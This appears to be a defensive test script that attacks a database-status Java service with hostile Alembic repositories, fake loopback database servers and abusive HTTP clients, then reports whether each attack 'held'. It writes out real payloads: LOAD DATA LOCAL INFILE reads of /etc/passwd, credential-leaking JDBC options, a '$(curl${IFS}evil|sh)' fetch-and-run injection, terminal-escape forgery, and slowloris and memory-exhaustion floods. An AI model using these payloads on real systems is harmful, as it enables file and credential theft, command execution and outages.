#!/usr/bin/env python3
"""Attacks the jar as a hostile repository and as a hostile caller, and says what came of it.

    src/test/hostile/attack.py target/db-status.jar            all attacks, one after the other
    src/test/hostile/attack.py target/db-status.jar NAME ...   some of them
    src/test/hostile/attack.py target/db-status.jar --hour 60  all of them again and again for 60 minutes
    src/test/hostile/attack.py --container NAME ...            the jar of a container of buildah, in it, as its user (as root)

The service runs with the options of the image (src/main/docker/jvm.options). A good component is asked all the time,
and its answer must stay right. The servers that the repositories name are fakes on loopback, in this file. The last line
of each attack tells the outcome: "held" or "GOT THROUGH", with what was seen. The exit status is 1 if any got through.
"""
import argparse
import http.client
import json
import os
import shutil
import socket
import sqlite3
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..", ".."))
SECRET = "S3cr3tMarker"
TOKEN = "T0kenMarker"
REPOSITORY = {}
SETTINGS = {}
CALLERS = {}
DOUBTED = {}


def read_exactly(sock, count):
    data = b""
    while len(data) < count:
        part = sock.recv(count - len(data))
        if not part:
            raise EOFError
        data += part
    return data


class Server:
    """A listener on loopback that serves each client on a thread, and remembers all that clients said."""

    def __init__(self, serve):
        self.heard = []
        self.clients = 0
        self.serve = serve
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=200)
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            client, _ = self.listener.accept()
            self.clients += 1
            threading.Thread(target=self.one, args=(client,), daemon=True).start()

    def one(self, client):
        with client:
            try:
                client.settimeout(30)
                self.serve(self, client)
            except (OSError, EOFError, struct.error):
                pass

    def said(self, data):
        self.heard.append(data)

    def text(self):
        return b" ".join(self.heard).decode("latin-1")


# --- PostgreSQL ------------------------------------------------------------------------------------------------------

def pg(kind, body=b"", length=None):
    return kind + struct.pack(">I", (len(body) + 4) if length is None else length) + body


def pg_start(server, client):
    while True:
        length, code = struct.unpack(">II", read_exactly(client, 8))
        body = read_exactly(client, length - 8)
        if code in (80877103, 80877104):
            client.sendall(b"N")
            continue
        server.said(body)
        return


def pg_hello(client):
    client.sendall(pg(b"R", struct.pack(">I", 0))
                   + b"".join(pg(b"S", p) for p in (b"server_version\x0015.0\0", b"client_encoding\0UTF8\0",
                                                    b"integer_datetimes\0on\0", b"standard_conforming_strings\0on\0",
                                                    b"DateStyle\0ISO, MDY\0", b"TimeZone\0UTC\0"))
                   + pg(b"K", struct.pack(">II", 1, 1)) + pg(b"Z", b"I"))


def pg_rows(rows):
    """Answers every query by a column of text."""

    def serve(server, client):
        pg_start(server, client)
        pg_hello(client)
        while True:
            kind = read_exactly(client, 1)
            body = read_exactly(client, struct.unpack(">I", read_exactly(client, 4))[0] - 4)
            if kind == b"X":
                return
            if kind != b"S":
                continue
            client.sendall(pg(b"1") + pg(b"2") + pg(b"T", struct.pack(">H", 1) + b"version_num\0"
                                                     + struct.pack(">IHIhiH", 0, 0, 25, -1, -1, 0)))
            count = 0
            for row in rows(server):
                client.sendall(pg(b"D", struct.pack(">HI", 1, len(row)) + row))
                count += 1
            client.sendall(pg(b"C", b"SELECT %d\0" % count) + pg(b"Z", b"I"))

    return Server(serve)


def pg_clear_text():
    def serve(server, client):
        pg_start(server, client)
        client.sendall(pg(b"R", struct.pack(">I", 3)))
        while True:
            part = client.recv(4096)
            if not part:
                return
            server.said(part)

    return Server(serve)


def pg_announces(kind, length, after_login, body=b""):
    """Announces a message that is far longer than what comes."""

    def serve(server, client):
        pg_start(server, client)
        if after_login:
            pg_hello(client)
            read_exactly(client, 1)
            client.sendall(pg(b"1") + pg(b"2"))
        client.sendall(pg(kind, body, length))
        while client.recv(4096):
            pass

    return Server(serve)


# --- MariaDB and MySQL -----------------------------------------------------------------------------------------------

def my_send(client, sequence, body):
    client.sendall(struct.pack("<I", len(body))[:3] + bytes([sequence & 255]) + body)


def my_read(client):
    header = read_exactly(client, 4)
    return header[3], read_exactly(client, struct.unpack("<I", header[:3] + b"\0")[0])


def my_greeting(client, plugin=b"mysql_native_password"):
    capabilities = 0xFFFFFFFF & ~0x0800 & ~0x20 & ~0x01000000
    my_send(client, 0, b"\x0a5.5.5-10.11.0-MariaDB\0" + struct.pack("<I", 1) + b"12345678\0"
            + struct.pack("<H", capabilities & 0xFFFF) + b"\x2d\x02\0" + struct.pack("<H", capabilities >> 16 & 0xFFEF)
            + b"\x15" + b"\0" * 6 + struct.pack("<I", 0) + b"123456789012\0" + plugin + b"\0")


OK = b"\0\0\0\x02\0\0\0"


def my_server(answer, plugin=b"mysql_native_password", login=None):
    def serve(server, client):
        my_greeting(client, plugin)
        sequence, body = my_read(client)
        server.said(body)
        if login is not None:
            login(server, client, sequence)
        my_send(client, sequence + 1, OK)
        while True:
            sequence, body = my_read(client)
            server.said(body)
            answer(server, client, body)

    return Server(serve)


def my_local_infile(server, client, body):
    if b"LOCAL INFILE" in body.upper() or b"LOAD DATA" in body.upper():
        my_send(client, 1, b"\xfb/etc/passwd")
        sequence, data = my_read(client)
        server.said(b"FILE:" + data)
        my_send(client, sequence + 2, OK)
    else:
        my_send(client, 1, OK)


def my_clear_switch(server, client, sequence):
    my_send(client, sequence + 1, b"\xfemysql_clear_password\0\0")
    _, body = my_read(client)
    server.said(b"CLEAR:" + body)


def my_key_request(server, client, sequence):
    my_send(client, sequence + 1, b"\xfecaching_sha2_password\x0012345678901234567890\0")
    sequence, body = my_read(client)
    server.said(b"SCRAMBLE:" + body)
    my_send(client, sequence + 1, b"\x01\x04")
    sequence, body = my_read(client)
    server.said(b"KEY:" + body)


def my_rows(rows):
    def answer(server, client, body):
        if b"version_num" not in body:
            my_send(client, 1, OK)
            return
        column = b"\x03def\0\0\0\x0bversion_num\x0bversion_num\x0c\x2d\0" + struct.pack("<I", 255) + b"\xfd\0\0\0\0\0"
        out = [b"\x01", column, b"\xfe\0\0\x02\0"]
        sequence = 1
        for part in out:
            my_send(client, sequence, part)
            sequence += 1
        for row in rows(server):
            my_send(client, sequence, b"\xfd" + struct.pack("<I", len(row))[:3] + row)
            sequence += 1
        my_send(client, sequence, b"\xfe\0\0\x02\0")

    return my_server(answer)


def my_announces(server, client, body):
    if b"version_num" in body:
        client.sendall(b"\xff\xff\xff\x01")
        time.sleep(20)
    else:
        my_send(client, 1, OK)


# --- repositories ----------------------------------------------------------------------------------------------------

class Repository:
    def __init__(self, directory):
        self.directory = directory
        self.server = None

    def write(self, name, text):
        path = os.path.join(self.directory, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as out:
            out.write(text if isinstance(text, bytes) else text.encode())
        return path

    def ini(self, url=None, more=""):
        line = "" if url is None else "sqlalchemy.url = %s\n" % url.replace("%", "%%")
        self.write("alembic.ini", "[alembic]\nscript_location = m\n" + line + more)
        return self

    def script(self, name="a1", revision="'a1'", down="None", doc="One", more=""):
        self.write("m/versions/%s.py" % name, '"""%s\n\nRevision ID: x\n"""\nrevision = %s\ndown_revision = %s\n%s'
                   % (doc, revision, down, more))
        return self

    def database(self, *statements):
        path = os.path.join(self.directory, "d.db")
        connection = sqlite3.connect(path)
        for statement in statements:
            connection.execute(statement)
        connection.commit()
        connection.close()
        return self

    def stamped(self, row="a1"):
        return self.database("CREATE TABLE alembic_version (version_num TEXT)",
                             "INSERT INTO alembic_version VALUES ('%s')" % row.replace("'", "''"))


def attack(expect, times=1, **settings):
    """An attack by a repository: makes it, and says by `expect(answer, repository)` what got through, or None."""

    def register(make):
        name = make.__name__.replace("_", "-")
        REPOSITORY[name] = (make, expect, times)
        SETTINGS[name] = settings
        return make

    return register


def reason(*wanted):
    def check(answer, repository):
        return None if answer.get("reason") in wanted else "reason %s, not %s" % (answer.get("reason"), "/".join(wanted))

    return check


def unheard(*words, wanted=()):
    def check(answer, repository):
        for word in words:
            if word in repository.server.text():
                return "the server heard %r" % word
        return reason(*wanted)(answer, repository) if wanted else None

    return check


def unseen(*words):
    def check(answer, repository):
        for word in words:
            if word in repository.all:
                return "the answers show %r" % word
        return None

    return check


URL = "DATABASE_URL_INVALID"


@attack(unheard("FILE:", "LOAD DATA", wanted=(URL,)))
def mariadb_local_infile(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FallowLocalInfile=true%%26initSql=LOAD DATA LOCAL INFILE '/etc/passwd'"
          " INTO TABLE t%%26sslMode=disable" % r.server.port).script()


@attack(unheard(TOKEN, wanted=(URL,)))
def mariadb_environment(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FcredentialType=ENV%%26userKey=DBSTATUS_SECURITY_TOKEN%%26pwdKey=PATH"
          % r.server.port).script()


@attack(unheard("DELETE", wanted=(URL,)))
def mariadb_initial_statement(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FinitSql=DELETE FROM alembic_version" % r.server.port).script()


@attack(unheard("CREATE DATABASE", wanted=(URL,)))
def mariadb_creates_a_database(r):
    r.server = my_server(my_local_infile)
    r.ini("jdbc:mariadb://127.0.0.1:%d/db%%3FcreateDatabaseIfNotExist=true" % r.server.port).script()


@attack(unheard(SECRET, "operator"), password=SECRET, username="operator")
def operators_password_in_clear_text(r):
    r.server = pg_clear_text()
    r.ini("postgresql://127.0.0.1:%d/d" % r.server.port).script()


@attack(unheard(SECRET, "KEY:\x02", "operator"), password=SECRET, username="operator")
def operators_password_by_a_retrieved_key(r):
    r.server = my_server(my_local_infile, login=my_key_request)
    r.ini("mysql://127.0.0.1:%d/d" % r.server.port).script()


@attack(unheard("CLEAR:"))
def mariadb_clear_text(r):
    r.server = my_server(my_local_infile, login=my_clear_switch)
    r.ini("mysql://own:own@127.0.0.1:%d/d" % r.server.port).script()


@attack(reason(URL))
def postgresql_endless_root_certificate(r):
    r.ini("postgresql://u:p@127.0.0.1:1/d?sslmode=verify-full&sslrootcert=/dev/zero").script()


@attack(reason(URL), times=40)
def postgresql_piped_root_certificate(r):
    pipe = os.path.join(r.directory, "pipe")
    os.mkfifo(pipe)
    r.server = Server(lambda server, client: (read_exactly(client, 8), client.sendall(b"S"), time.sleep(5)))
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=verify-full&sslrootcert=%s" % (r.server.port, pipe)).script()


@attack(reason(URL))
def postgresql_service_file(r):
    r.ini("postgresql://u:p@127.0.0.1:1/d?service=x").script()


@attack(reason(URL))
def mysql_certificate_file(r):
    r.ini("mysql://u:p@127.0.0.1:1/d?ssl_ca=/etc/passwd").script()


@attack(reason("CONFIG_INVALID"), times=40)
def sqlite_endless_view(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE VIEW alembic_version AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i FROM n)"
        " SELECT count(*) AS version_num FROM n")


@attack(reason("CONFIG_INVALID"), times=3)
def sqlite_view_of_400_megabytes(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE VIEW alembic_version AS SELECT hex(zeroblob(200000000)) AS version_num")


@attack(reason("CONFIG_INVALID"), times=3)
def sqlite_many_rows_of_60_kb(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE TABLE alembic_version (version_num TEXT)",
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 9000) INSERT INTO alembic_version"
        " SELECT printf('%060000d', i) FROM n")


@attack(reason("CONFIG_INVALID", "CONNECTION_LOST"), times=3)
def sqlite_generated_column(r):
    r.ini("sqlite:///d.db").script().database(
        "CREATE TABLE alembic_version (a, version_num AS (hex(zeroblob(400000000))))",
        "INSERT INTO alembic_version (a) VALUES (1)")


@attack(reason("DATABASE_NOT_FOUND"), times=20)
def sqlite_piped_journal(r):
    r.ini("sqlite:///d.db").script().stamped()
    os.mkfifo(os.path.join(r.directory, "d.db-journal"))


@attack(reason(URL))
def sqlite_pragmas_in_the_file_name(r):
    r.ini("sqlite:///file:d.db%3Fjournal_mode=WAL").script().stamped()


@attack(reason("CONFIG_INVALID", "CONNECTION_LOST"), times=3)
def postgresql_many_rows_of_60_kb(r):
    r.server = pg_rows(lambda server: (b"%060000d" % i for i in range(9000)))
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()


@attack(reason("CONFIG_INVALID"), times=8)
def postgresql_row_of_4_mb_that_changes(r):
    r.server = pg_rows(lambda server: [b"%03900000d" % server.clients])
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()


@attack(reason("CONFIG_INVALID"), times=3)
def mysql_many_rows_of_60_kb(r):
    r.server = my_rows(lambda server: (b"%060000d" % i for i in range(9000)))
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


@attack(reason("CONFIG_INVALID", "QUERY_TIMEOUT", "CONNECTION_LOST"), times=3)
def mysql_announces_16_megabytes(r):
    r.server = my_server(my_announces)
    r.ini("mysql://u:p@127.0.0.1:%d/d" % r.server.port).script()


def announcing(name, kind, length, after_login, body=b""):
    def make(r):
        r.server = pg_announces(kind, length, after_login, body)
        r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()

    make.__name__ = name
    attack(lambda answer, r: None if answer.get("status") == "ERROR" else "no error", times=2)(make)


for letter in "RENSKZAvTDCGt":
    for phase in (False, True):
        announcing("postgresql_%s_of_a_gigabyte_%s_login" % (
            ("lower_" if letter.islower() else "") + letter.upper(), "after" if phase else "in"),
            letter.encode(), 0x5F000000, phase, b"\0\0\0\x0a" if letter == "R" else b"")


@attack(reason("SCRIPT_UNREADABLE"), times=3)
def script_of_4_mb(r):
    r.ini("sqlite:///d.db").stamped().script(more="a=1;" * 1_000_000 + "\n")


@attack(lambda answer, r: None if answer.get("reason") in ("AT_HEAD", "SCRIPT_UNREADABLE", "UNKNOWN_REVISION",
                                                           "MULTIPLE_HEADS", "DUPLICATE_REVISION") else str(answer))
def many_scripts_of_one_mb(r):
    r.ini("sqlite:///d.db").stamped()
    for i in range(80):
        r.script("s%d" % i, "'s%d'" % i, "None" if i == 0 else "'s%d'" % (i - 1), more="a=1;" * 260_000 + "\n")


@attack(lambda answer, r: None if "status" in answer else str(answer))
def many_ids_in_many_scripts(r):
    r.ini("sqlite:///d.db").stamped()
    for i in range(80):
        r.script("s%d" % i, "'s%d'" % i, "(" + "".join("'%d'," % j for j in range(9000)) + ")")


@attack(lambda answer, r: None, times=3)
def env_of_one_mb(r):
    r.ini("sqlite:///d.db").stamped().script().write("m/env.py", "a=1;" * 260_000 + "\n")


@attack(lambda answer, r: None, times=2)
def modules_of_one_mb(r):
    r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped()
    for i in range(40):
        r.write("mod%d.py" % i, "a=1;" * 260_000 + "\nX%d = 'r%d'\n" % (i, i))
    r.script(more="".join("from mod%d import X%d\n" % (i, i) for i in range(40)))


@attack(reason("CONFIG_INVALID", "AT_HEAD"), times=2)
def slug_length_of_many_digits(r):
    r.ini("sqlite:///d.db", "truncate_slug_length = " + "1_1" * 100_000 + "\n").stamped().script()


@attack(lambda answer, r: None if answer["seconds"] < 8 else "took %.1f s" % answer["seconds"], times=4)
def walk_through_usr(r):
    r.ini("sqlite:///d.db", "version_locations = /usr\nrecursive_version_locations = true\n").stamped().script()


@attack(unseen("E1sewhereMarker"))
def secret_of_another_place(r):
    other = tempfile.mkdtemp(prefix="elsewhere")
    with open(other + "/secrets_of_another.py", "w") as out:
        out.write("SECRET = 'E1sewhereMarker'\n")
    r.ini("sqlite:///d.db", "prepend_sys_path = %s\n" % other).stamped()
    r.script(more="from secrets_of_another import SECRET as revision\n")


@attack(unseen("E1sewhereMarker"))
def link_to_a_secret(r):
    other = tempfile.mkdtemp(prefix="elsewhere")
    with open(other + "/.env", "w") as out:
        out.write("SECRET = 'E1sewhereMarker'\n")
    r.ini("sqlite:///d.db", "prepend_sys_path = .\n").stamped()
    os.symlink(other + "/.env", r.directory + "/linked.py")
    r.script(more="from linked import SECRET as revision\n")


@attack(lambda answer, r: None if r.server.clients == 0 else "the server was asked")
def server_of_a_project_that_is_not_trusted(r):
    r.server = pg_rows(lambda server: [b"a1"])
    r.ini("postgresql://u:p@127.0.0.1:%d/d?sslmode=disable" % r.server.port).script()


for doubted in ("secret_of_another_place", "link_to_a_secret", "server_of_a_project_that_is_not_trusted"):
    SETTINGS[doubted.replace("_", "-")]["trusted"] = "false"


def quoted(answer, repository):
    steps = json.dumps(answer.get("recommendedAction", "")) + repository.text
    for line in steps.replace("\\n", "\n").split("\n"):
        outside = "".join(part for i, part in enumerate(line.split("'")) if i % 2 == 0)
        if "$(" in outside and ("alembic" in line or "git log" in line or "grep" in line):
            return "a command has $( without quotes: " + line[:100]
    return None


@attack(quoted)
def shell_in_a_row(r):
    r.ini("sqlite:///d.db").script().stamped("$(curl${IFS}evil|sh)")


@attack(quoted)
def shell_in_two_heads(r):
    r.ini("sqlite:///d.db").stamped().script().script("b", "'$(curl${IFS}evil|sh)'", "'a1'")
    r.script("c", "'c1'", "'a1'")


@attack(quoted)
def shell_in_two_scripts(r):
    r.ini("sqlite:///d.db").stamped().script("b", "'$(curl${IFS}evil|sh)'").script("c", "'$(curl${IFS}evil|sh)'")


def plain(answer, repository):
    for c in repository.text:
        if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160 or 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069):
            return "the text has the character U+%04X" % ord(c)
    if "\nStatus: Database schema is current" in repository.text:
        return "a forged line"
    return None


EVIL = "\x1b[2J\x07\u202e\x9b\u2028\rx\nStatus: Database schema is current. No migrations pending.\n"


@attack(plain)
def terminal_codes_in_a_row(r):
    r.ini("sqlite:///d.db").script().stamped(EVIL)


@attack(plain)
def terminal_codes_in_a_docstring(r):
    r.ini("sqlite:///d.db").stamped().script().script("b", "'b1'", "'a1'", doc=EVIL.replace("\n", " ").replace("\r", ""))


@attack(plain)
def terminal_codes_in_an_id(r):
    r.ini("sqlite:///d.db").stamped().script().script("b", repr(EVIL), "'a1'").script("c", "'c1'", "'a1'")


# --- callers ---------------------------------------------------------------------------------------------------------

def caller(make):
    CALLERS[make.__name__.replace("_", "-")] = make
    return make


@caller
def many_types_in_accept(service):
    accept = ",".join("application/x%d" % i for i in range(60))
    status, _, _ = service.get("/components/good/db-status", {"Accept": accept})
    return None if status in (400, 406) else "answered by %d" % status


@caller
def many_languages_for_the_api(service):
    service.get("/v3/api-docs", {"Accept-Language": "en"})
    begin = time.time()
    for i in range(20):
        service.get("/v3/api-docs", {"Accept-Language": "x-a%d" % i})
    each = (time.time() - begin) / 20
    return None if each < 0.05 else "%.2f s each" % each


@caller
def pipelined_after_a_wait(service):
    """The status comes while the first request waits; the second one has been sent by then."""
    head = "Host: localhost\r\nAuthorization: Bearer %s\r\n" % TOKEN
    answers = 0
    try:
        with socket.create_connection(("127.0.0.1", service.port)) as sock:
            sock.sendall(("GET /components/big/db-status?wait=20s&expect=BEHIND HTTP/1.1\r\n%s\r\n" % head).encode()
                         + ("GET /components/big/db-status HTTP/1.1\r\n%sConnection: close\r\n\r\n" % head).encode())
            threading.Timer(2, lambda: service.stamp_big("r9998")).start()
            sock.settimeout(30)
            part = b"-"
            data = b""
            while part:
                part = sock.recv(65536)
                data += part
            answers = data.count(b"HTTP/1.1 200")
    finally:
        service.stamp_big("r9999")
    return None if answers == 2 else "%d answers to 2 requests" % answers


@caller
def compressed_with_an_entity_tag(service):
    status, headers, body = service.get("/components/big/revisions?limit=10000", {"Accept-Encoding": "gzip"})
    if status != 200:
        return "answered by %d" % status
    return None if headers.get("content-encoding") == "gzip" else "%d bytes, not compressed" % len(body)


@caller
def failed_tokens(service):
    begin = len(service.log())
    last = None
    for i in range(300):
        last, _, _ = service.get("/components/good/db-status", {"Authorization": "Bearer Gue55%d" % i}, source="127.0.0.2")
    if "Gue55" in service.log()[begin:]:
        return "the log has the token"
    if "token" not in service.log()[begin:].lower():
        return "no line in the log"
    return None if last == 429 else "the last of 300 was answered by %d" % last


@caller
def connections_that_say_nothing(service):
    socks = []
    try:
        for i in range(4500):
            sock = socket.socket()
            sock.settimeout(0.5)
            try:
                sock.connect(("127.0.0.1", service.port))
                sock.sendall(b"GET /components/good/db-status HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 6000)
                socks.append(sock)
            except OSError:
                sock.close()
            if i % 100 == 0 and not service.alive():
                return "dead after %d connections" % i
        time.sleep(3)
        return None if service.alive() else "dead after %d connections" % len(socks)
    finally:
        for sock in socks:
            sock.close()


@caller
def a_byte_every_five_seconds(service):
    with socket.create_connection(("127.0.0.1", service.port)) as sock:
        begin = time.time()
        try:
            for c in b"GET /db-status HTTP/1.1\r\n":
                sock.sendall(bytes([c]))
                sock.settimeout(5)
                try:
                    if sock.recv(1000) == b"":
                        break
                except TimeoutError:
                    pass
                if time.time() - begin > 25:
                    return "open after %.0f s" % (time.time() - begin)
        except OSError:
            pass
        return None


@caller
def many_waits(service):
    socks = []
    try:
        head = "GET /components/good/db-status?wait=60s&expect=ERROR HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n" % TOKEN
        for i in range(2200):
            sock = socket.socket()
            sock.settimeout(0.5)
            try:
                sock.connect(("127.0.0.1", service.port))
                sock.sendall(head.encode())
                socks.append(sock)
            except OSError:
                sock.close()
            if i % 100 == 0 and not service.alive():
                return "dead after %d waits" % i
        time.sleep(5)
        return None if service.alive() else "dead after %d waits" % len(socks)
    finally:
        for sock in socks:
            sock.close()


def many_at_once(service, path, count):
    outcomes = []

    def one():
        try:
            outcomes.append(service.get(path, timeout=60)[0])
        except (OSError, http.client.HTTPException):
            outcomes.append(0)

    threads = [threading.Thread(target=one) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if not service.alive():
        return "dead"
    return None if all(o in (200, 429, 503) for o in outcomes) and 200 in outcomes else str(set(outcomes))


@caller
def many_large_graphs(service):
    return many_at_once(service, "/components/big/graph.svg?limit=10000", 120)


@caller
def many_large_histories(service):
    return many_at_once(service, "/components/big/revisions?limit=10000", 120)


# --- the service -----------------------------------------------------------------------------------------------------

class Service:
    def __init__(self, command, directory, settings):
        self.command, self.directory, self.settings = command, directory, settings
        self.process = None
        self.deaths = 0
        with socket.create_server(("127.0.0.1", 0)) as free:
            self.port = free.getsockname()[1]

    def start(self):
        arguments = self.command + ["--server.port=%d" % self.port,
                     "--server.address=127.0.0.1", "--db-status.workdir=" + self.directory,
                     "--db-status.builtin-components=false", "--db-status.monitor.interval=0s",
                     "--db-status.security.token=" + TOKEN,
                     "--spring.config.additional-location=file:" + self.settings]
        environment = dict(os.environ, DBSTATUS_SECURITY_TOKEN=TOKEN)
        self.logfile = open(os.path.join(self.directory, "service.log"), "ab")
        self.process = subprocess.Popen(arguments, stdout=self.logfile, stderr=subprocess.STDOUT, env=environment,
                                        cwd=self.directory)
        for _ in range(600):
            time.sleep(0.2)
            if self.process.poll() is not None:
                raise SystemExit("The service did not start:\n" + self.log()[-3000:])
            try:
                if self.get("/actuator/health/liveness", timeout=2)[0] == 200:
                    return
            except OSError:
                pass
        raise SystemExit("The service did not answer within two minutes")

    def alive(self):
        """Whether it still runs: one that is out of memory may refuse to end while native code runs, and is no better."""
        if self.process.poll() is not None:
            return False
        for _ in range(3):
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=10).close()
                return True
            except ConnectionRefusedError:
                time.sleep(0.5)
            except OSError:
                return True
        os.kill(self.pid(), 9)
        self.process.wait()
        return False

    def pid(self):
        """Of the JVM, which may be below the process that was started."""
        mark = b"--server.port=%d\0" % self.port
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                command = open("/proc/%s/cmdline" % pid, "rb").read()
            except OSError:
                continue
            if mark in command and os.path.basename(command.split(b"\0")[0]) == b"java":
                return int(pid)
        return self.process.pid

    def revive(self):
        if not self.alive():
            self.deaths += 1
            self.start()

    def get(self, path, headers=None, timeout=40, source="127.0.0.1"):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=timeout, source_address=(source, 0))
        try:
            all_headers = {"Authorization": "Bearer " + TOKEN}
            all_headers.update(headers or {})
            connection.request("GET", path, headers=all_headers)
            response = connection.getresponse()
            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
        finally:
            connection.close()

    def log(self):
        with open(os.path.join(self.directory, "service.log"), "rb") as log:
            return log.read().decode("utf-8", "replace")

    def vitals(self):
        resident = threads = 0
        try:
            for line in open("/proc/%d/status" % self.pid()):
                if line.startswith("VmRSS"):
                    resident = int(line.split()[1]) // 1024
                if line.startswith("Threads"):
                    threads = int(line.split()[1])
        except OSError:
            pass
        return "%3d MiB %3d threads" % (resident, threads)

    def stamp_big(self, row):
        connection = sqlite3.connect(os.path.join(self.directory, "big", "d.db"), timeout=5)
        connection.execute("UPDATE alembic_version SET version_num = ?", (row,))
        connection.commit()
        connection.close()

    def stop(self):
        if self.alive():
            os.kill(self.pid(), 15)
            self.process.wait(30)


def ask_of(service, name, repository, times):
    answer = {}
    begin = time.time()
    for _ in range(times):
        one = time.time()
        try:
            status, _, body = service.get("/components/" + name + "/db-status?format=json")
            answer = json.loads(body)
            answer["seconds"] = time.time() - one
            _, _, text = service.get("/components/" + name + "/db-status?format=text")
            repository.text = text.decode("utf-8", "replace")
            _, _, history = service.get("/components/" + name + "/revisions?format=text")
            repository.all = body.decode("utf-8", "replace") + repository.text + history.decode("utf-8", "replace")
        except (OSError, ValueError, http.client.HTTPException) as problem:
            answer = {"reason": "no answer: %s" % type(problem).__name__, "seconds": time.time() - one}
        if not service.alive():
            return answer, "DEAD"
        if time.time() - begin > 120:
            break
    return answer, None


def good(service):
    try:
        return json.loads(service.get("/components/good/db-status?format=json", timeout=20)[2]).get("status") == "UP_TO_DATE"
    except (OSError, ValueError, http.client.HTTPException):
        return False


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("jar", nargs="?")
    parser.add_argument("names", nargs="*")
    parser.add_argument("--hour", type=int, metavar="MINUTES", help="repeat all attacks for so many minutes")
    parser.add_argument("--java", default=os.path.join(os.environ.get("JAVA_HOME", "/usr"), "bin", "java"))
    parser.add_argument("--container", metavar="NAME", help="of buildah: its jar is attacked, in it")
    parser.add_argument("--without-trusted", action="store_true", help="for jars that do not know this setting")
    arguments = parser.parse_intermixed_args()
    if arguments.container and arguments.jar:
        arguments.names.insert(0, arguments.jar)
    directory = tempfile.mkdtemp(prefix="hostile")
    os.chmod(directory, 0o755)
    if arguments.container:
        command = ["buildah", "--storage-driver", "vfs", "run", "--isolation", "chroot", "--user", "10001:10001", "--volume",
                   directory + ":" + directory + ":ro", "--env", "DBSTATUS_SECURITY_TOKEN=" + TOKEN, arguments.container,
                   "--", "java", "@jvm.options", "-XX:AOTCache=db-status.aot", "-jar", "db-status.jar"]
    else:
        command = [arguments.java, "@" + os.path.join(ROOT, "src", "main", "docker", "jvm.options"), "-jar",
                   os.path.abspath(arguments.jar)]
    names = arguments.names or list(REPOSITORY) + list(CALLERS)
    repositories = {}
    settings = {"db-status": {"components": {}}}
    components = settings["db-status"]["components"]

    def component(name, more):
        os.makedirs(os.path.join(directory, name, "m", "versions"))
        components[name] = {"alembic-config": "alembic.ini", "script-location": None}
        return Repository(os.path.join(directory, name))

    for name in ["good", "big"] + [n for n in names if n in REPOSITORY]:
        repository = component(name, {})
        repositories[name] = repository
        own = dict(SETTINGS.get(name, {}))
        if arguments.without_trusted:
            own.pop("trusted", None)
        components[name] = dict(own, **{"alembic-config": name + "/alembic.ini"})
        if name == "good":
            repository.ini("sqlite:///good/d.db").script().stamped()
        elif name == "big":
            repository.ini("sqlite:///big/d.db").stamped("r9999")
            for i in range(10000):
                repository.script("r%d" % i, "'r%d'" % i, "None" if i == 0 else "'r%d'" % (i - 1))
        else:
            REPOSITORY[name][0](repository)
        path = os.path.join(repository.directory, "alembic.ini")
        text = open(path).read().replace("script_location = m\n", "script_location = %(here)s/m\n")
        text = text.replace("prepend_sys_path = .\n", "prepend_sys_path = %(here)s\n")
        text = text.replace("sqlite:///d.db", "sqlite:///" + name + "/d.db")
        text = text.replace("file:d.db", "file:" + name + "/d.db")
        open(path, "w").write(text)
    file = os.path.join(directory, "attack.json")
    json.dump(settings, open(file, "w"))
    os.rename(file, file[:-5] + ".yaml")
    service = Service(command, directory, file[:-5] + ".yaml")
    failed = 0
    wrong = 0
    try:
        service.start()
        print("%-52s %s" % ("the service has started", service.vitals()), flush=True)
        end = time.time() + 60 * (arguments.hour or 0)
        while True:
            for name in names:
                begin = time.time()
                if name in REPOSITORY:
                    _, expect, times = REPOSITORY[name]
                    answer, death = ask_of(service, name, repositories[name], times)
                    outcome = death or expect(answer, repositories[name])
                    seen = str(answer.get("reason"))
                else:
                    try:
                        outcome, seen = CALLERS[name](service), ""
                    except (OSError, http.client.HTTPException) as problem:
                        outcome, seen = "no answer: " + type(problem).__name__, ""
                    if not service.alive():
                        outcome = outcome or "DEAD"
                died = not service.alive()
                service.revive()
                right = good(service)
                wrong += not right
                failed += outcome is not None or not right
                print("%-52s %-11s %s%s [%.1f s, %s%s]" % (
                    name, "held" if outcome is None else "GOT THROUGH", seen,
                    "" if outcome is None else ": " + outcome, time.time() - begin, service.vitals(),
                    ", restarted" if died else "" if right else ", the good one was answered wrongly"), flush=True)
            if time.time() >= end:
                break
        time.sleep(2)
        print("%-52s %s" % ("afterwards", service.vitals()))
        print("%d got through, %d deaths, %d wrong answers about the good component" % (failed, service.deaths, wrong))
    finally:
        service.stop()
        if not failed:
            shutil.rmtree(directory, ignore_errors=True)
